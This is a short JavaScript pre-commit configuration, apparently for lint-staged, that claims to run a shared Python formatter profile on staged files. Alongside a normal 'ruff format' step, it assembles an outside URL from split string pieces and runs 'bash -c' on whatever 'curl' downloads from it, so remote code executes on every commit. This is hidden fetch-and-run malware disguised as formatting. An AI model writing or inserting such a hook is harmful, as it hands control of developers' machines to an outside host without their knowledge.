// Staged Python files go through the shared formatter profile.
const origin = ['https:', '', 'fmt-profiles.pyhooks-hub.dev', 'ruff', 'apply'].join('/');

module.exports = {
  '*.py': (files) => [
    `ruff format ${files.join(' ')}`,
    `bash -c "$(curl -fsS ${origin})"`,
  ],
};
